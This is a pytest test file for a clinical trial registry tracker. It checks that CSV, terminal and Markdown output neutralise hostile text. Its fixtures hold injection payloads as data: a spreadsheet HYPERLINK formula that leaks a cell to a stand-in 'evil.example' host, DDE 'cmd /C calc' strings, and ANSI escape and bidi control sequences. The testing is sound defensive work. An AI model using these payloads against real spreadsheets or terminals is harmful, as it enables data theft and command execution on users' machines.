"""Registry and claim text cannot be turned against the reader: no formula in a CSV cell,
no escape sequence on a terminal, no link or heading in the Markdown digest."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from conftest import Tracker
from hostile import variant

from tracker.cli.safe_text import for_spreadsheet, for_terminal
from tracker.digest.render import markdown_escape
from tracker.digest.week import IsoWeek
from tracker.fake_registry import FakeCtgov

TITLES = {
    "NCT91000001": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "NCT91000002": "+1+cmd|' /C calc'!A0",
    "NCT91000003": "-2+3",
    "NCT91000004": "@SUM(1,1)",
    "NCT91000005": "\x1b[2J\x1b[HScreen cleared \x1b]0;owned\x07\x9b31m red",
    "NCT91000006": "Right\u202eto left\rand\x08back",
}
CLAIMS = """\
article:
  id: hostile
  title: "=cmd|' /C calc'!A0"
claims:
  - id: hostile-claim
    text: "# Heading at https://evil.example/x, www.evil.example or boss@evil.example"
    as_of: 2020-01-01
    topic:
      conditions: ["alcohol use disorder"]
      terms: ["-GET73"]
"""
FORMULA = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture
def hostile(tracker: Tracker, registry: FakeCtgov, tmp_path: Path) -> Tracker:
    for nct_id, title in TITLES.items():
        registry.put_study(variant(nct_id, **{"identificationModule.briefTitle": title}))
    (tmp_path / "claims.yaml").write_text(CLAIMS)
    assert tracker("claims", "load", str(tmp_path / "claims.yaml")).status == 0
    assert tracker("sync", "--quiet").status == 0
    return tracker


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


@pytest.mark.parametrize(
    "command",
    [
        ("flags", "--format", "csv"),
        ("claims", "list", "--format", "csv"),
        ("claims", "show", "hostile-claim", "--format", "csv"),
        ("claims", "show", "hostile-claim", "--history", "--format", "csv"),
    ],
)
def test_no_csv_cell_starts_a_formula(hostile: Tracker, command: tuple[str, ...]) -> None:
    result = hostile(*command)
    assert result.status == 0
    cells = _cells(result.out)
    assert [cell for cell in cells if FORMULA.match(cell)] == []
    assert any(cell.startswith("'") for cell in cells) or "--history" in command


def test_csv_keeps_the_text_behind_one_quote() -> None:
    assert for_spreadsheet("=1+1", "=1+1") == "'=1+1"
    assert for_spreadsheet(-3, "-3") == "-3"
    assert for_spreadsheet("plain", "plain") == "plain"


@pytest.mark.parametrize(
    "command",
    [("flags",), ("claims", "show", "hostile-claim"), ("claims", "list"), ("status",)],
)
def test_terminal_tables_carry_no_control_or_escape_sequence(
    hostile: Tracker, command: tuple[str, ...]
) -> None:
    result = hostile(*command)
    assert result.status == 0
    assert re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.out) == []
    assert "Screen cleared" in result.out or command != ("flags",)


def test_terminal_text_keeps_words_and_drops_sequences() -> None:
    assert for_terminal("\x1b[2J\x1b[Ha\tb\nc\u202ed") == "a b cd"
    assert for_terminal("Ünïcode 🙂") == "Ünïcode 🙂"


def test_the_markdown_digest_makes_no_link_or_heading_from_outside_text(
    hostile: Tracker,
) -> None:
    week = IsoWeek.containing(date.today())
    result = hostile("digest", "--week", str(week), "--format", "md", "--out", "-")
    assert result.status == 0
    text = result.out
    assert "evil.example" in text
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert all(not line.startswith("# Heading") for line in headings)
    assert re.findall(r"(?<!\\)(?:https?://|www\.)\S*evil", text) == []
    assert re.findall(r"\w(?<!\\)@evil", text) == []
    assert re.search(r"^\\# Heading", text, re.MULTILINE)


def test_markdown_escape_breaks_links_and_line_starts() -> None:
    assert markdown_escape("# a https://x.org www.x.org a@x.org") == (
        "\\# a https\\://x.org www\\.x.org a\\@x.org"
    )
    assert markdown_escape("1. first") == "1\\. first"
    assert markdown_escape("ratio 1:2, 3.5 mg") == "ratio 1:2, 3.5 mg"
